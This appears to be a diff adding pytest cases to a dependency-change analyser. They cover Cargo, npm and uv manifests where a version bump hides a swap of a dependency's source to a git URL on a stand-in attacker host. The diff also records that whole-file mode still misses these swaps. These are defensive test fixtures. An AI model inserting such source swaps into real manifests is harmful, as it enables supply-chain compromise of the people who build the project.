@@ -16,6 +16,9 @@ Classes found open and closed here:
   pnpm-lock.yaml keys double-quoted, in pnpm v5's `/name/1.0.0` form, as a YAML complex key or with the
   value on the key's line likewise (a double-quoted key was read with its quote in the name).
 - go.mod `replace OLD => FORK` beside a bump (both modes: a replace was no dependency at all).
+Found open and NOT fixed here (strict xfail tests below): in --tree mode only, Cargo `[patch]`, npm
+`overrides` and `[tool.uv.sources]` are not read, so a git source swapped in beside a bump reads as the bump
+(patch-only mode refuses those lines: a `partial` problem).
 Classes tried and found closed: a hostile commit message's `claimed` version (no policy reads it; a
 look-alike name never lands on another package).
 """
@@ -363,3 +366,33 @@ def test_a_go_replace_to_another_source_is_a_change(tmp_path: Path, tree: bool, 
     delta = truth if tree else seen
     assert sorted((c.name.split(" => ")[-1], c.change) for c in delta.changes) == sorted(
         [("golang.org/x/net", "upgraded"), (replace.split("=> ")[1].split()[0], "added")]), delta
+
+
+_CT = '[package]\nname = "x"\nversion = "0.1.0"\n\n[dependencies]\nserde = "1.0.100"\nrand = "0.8.0"\n'
+_PJ = '{\n  "name": "x",\n  "dependencies": {\n    "a": "1.0.0",\n    "b": "1.0.0"\n  }\n}\n'
+_PP = '[project]\nname = "x"\nversion = "0.1"\ndependencies = [\n  "a>=1.0.0",\n  "b>=1.0.0",\n]\n'
+# A bump beside a section that swaps a known dependency's source for a git URL (whole files: the bump only).
+SOURCE_SWAPS = {
+    "cargo [patch]": ("Cargo.toml", _CT, _CT.replace('"0.8.0"', '"0.8.1"')
+                      + '\n[patch.crates-io]\nserde = { git = "https://evil.example/serde" }\n'),
+    "npm overrides": ("package.json", _PJ, _PJ.replace('"b": "1.0.0"\n  }', '"b": "1.0.1"\n  },\n  "overrides": {\n'
+                                                       '    "a": "git+https://evil.example/a.git"\n  }')),
+    "uv sources": ("pyproject.toml", _PP, _PP.replace("b>=1.0.0", "b>=1.0.1")
+                   + '\n[tool.uv.sources]\na = { git = "https://evil.example/a" }\n'),
+}
+
+
+@pytest.mark.parametrize("name", list(SOURCE_SWAPS))
+def test_a_source_swap_beside_a_bump_is_a_problem_from_the_patch(tmp_path: Path, name: str) -> None:
+    path, base, head = SOURCE_SWAPS[name]
+    seen, _ = _deltas(tmp_path, {path: base}, {path: head})
+    assert [p.kind for p in seen.problems] == ["partial"] and not seen.changes, seen
+
+
+@pytest.mark.xfail(strict=True, reason="open, --tree only: Cargo [patch], npm overrides and [tool.uv.sources] are "
+                   "not read by the whole-file parsers, so a git source swapped in beside a bump reads as the bump")
+@pytest.mark.parametrize("name", list(SOURCE_SWAPS))
+def test_a_source_swap_beside_a_bump_is_seen_in_the_whole_files(tmp_path: Path, name: str) -> None:
+    path, base, head = SOURCE_SWAPS[name]
+    _, truth = _deltas(tmp_path, {path: base}, {path: head})
+    assert truth.problems or len(truth.changes) > 1, truth
